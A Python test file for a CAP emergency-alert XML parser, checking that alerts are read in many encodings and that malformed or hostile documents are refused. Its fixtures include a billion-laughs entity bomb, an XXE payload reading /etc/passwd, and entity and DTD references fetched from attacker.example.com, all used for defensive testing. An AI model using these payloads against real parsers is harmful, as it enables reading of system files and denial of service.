"""CAP XML: every encoding XML allows is read, and no encoding lets a document type, an entity or
an external reference through: each is refused before anything is expanded or fetched."""

from __future__ import annotations

import codecs
import time

import pytest

from chalicelib.core.errors import InvalidEvent
from chalicelib.integrations.cap import document_text, from_cap, parse_cap_xml
from chalicelib.integrations.common import IntegrationDefaults
from tests.conftest import EVENTS

ALERT = (EVENTS / "cap-earthquake-alert.xml").read_text(encoding="utf-8")
HEADLINE = "M6.1 earthquake near the Example Valley site"
# A headline each encoding can carry: Danish for the Latin ones, Chinese for UTF-8 and UTF-16.
LATIN = "Jordskælv nær Example Valley"
WIDE = "Example Valley 附近發生地震"

# (name, how the text becomes bytes, a headline the encoding can hold)
ENCODINGS = [
    ("utf-8", lambda text: text.encode("utf-8"), WIDE),
    ("utf-8 with BOM", lambda text: codecs.BOM_UTF8 + text.encode("utf-8"), WIDE),
    ("utf-16 LE with BOM", lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"), WIDE),
    ("utf-16 BE with BOM", lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"), WIDE),
    ("utf-16 LE without BOM", lambda text: text.encode("utf-16-le"), WIDE),
    ("utf-16 BE without BOM", lambda text: text.encode("utf-16-be"), WIDE),
    ("iso-8859-1", lambda text: text.encode("iso-8859-1"), LATIN),
    ("windows-1252", lambda text: text.encode("windows-1252"), LATIN),
    ("us-ascii", lambda text: text.encode("ascii"), HEADLINE),
]
_DECLARED = {
    "utf-8": "UTF-8",
    "utf-8 with BOM": "UTF-8",
    "iso-8859-1": "ISO-8859-1",
    "windows-1252": "windows-1252",
    "us-ascii": "US-ASCII",
}


def declared(name: str, text: str) -> str:
    """``text`` with the XML declaration naming the encoding it will be sent in."""
    encoding = _DECLARED.get(name, "UTF-16")
    return text.replace('encoding="UTF-8"', f'encoding="{encoding}"')


BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE alert [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>
"""
EXTERNAL_ENTITY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>
"""
PARAMETER_ENTITY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "https://attacker.example.com/x.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>
"""
EXTERNAL_DTD = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE alert SYSTEM "https://attacker.example.com/cap.dtd">
""" + ALERT.split("\n", 1)[1]
HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "parameter entity": PARAMETER_ENTITY,
    "external DTD": EXTERNAL_DTD,
}


@pytest.mark.parametrize(("name", "encode", "headline"), ENCODINGS, ids=[e[0] for e in ENCODINGS])
def test_cap_is_read_in_every_encoding_xml_allows(name: str, encode: object, headline: str) -> None:
    body = encode(declared(name, ALERT.replace(HEADLINE, headline)))  # type: ignore[operator]
    [document] = from_cap(parse_cap_xml(body), IntegrationDefaults())
    assert document["summary"] == headline
    assert document["type"] == "natural.earthquake"
    assert headline in document_text(body)  # the original is kept as the text it was


@pytest.mark.parametrize("attack", HOSTILE, ids=list(HOSTILE))
@pytest.mark.parametrize(("name", "encode", "_"), ENCODINGS, ids=[e[0] for e in ENCODINGS])
def test_document_types_and_entities_are_refused_in_every_encoding(
    attack: str, name: str, encode: object, _: str
) -> None:
    body = encode(declared(name, HOSTILE[attack]))  # type: ignore[operator]
    started = time.perf_counter()
    with pytest.raises(InvalidEvent, match="document type declaration is refused") as refused:
        parse_cap_xml(body)
    assert time.perf_counter() - started < 0.5  # stopped at the declaration, nothing expanded
    assert refused.value.field == "$"


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (declared("x", ALERT).replace("UTF-16", "Shift_JIS").encode(), "encoding Tocsin cannot"),
        (ALERT.replace("UTF-8", "x-no-such-encoding").encode(), "encoding Tocsin cannot"),
        (codecs.BOM_UTF32_LE + ALERT.replace("UTF-8", "UTF-32").encode("utf-32-le"), "XML"),
        (ALERT.encode("utf-16-le")[:-7], "not well-formed XML"),
        (b"\xff\xfe" + b"\x00\xd8" * 8, "not well-formed XML"),  # lone UTF-16 surrogates
        (b"", "not well-formed XML"),
    ],
    ids=[
        "multi-byte Shift_JIS",
        "unknown encoding",
        "utf-32",
        "truncated utf-16",
        "surrogates",
        "empty",
    ],
)
def test_unreadable_documents_are_refused_with_a_reason(body: bytes, words: str) -> None:
    with pytest.raises(InvalidEvent, match=words):
        parse_cap_xml(body)
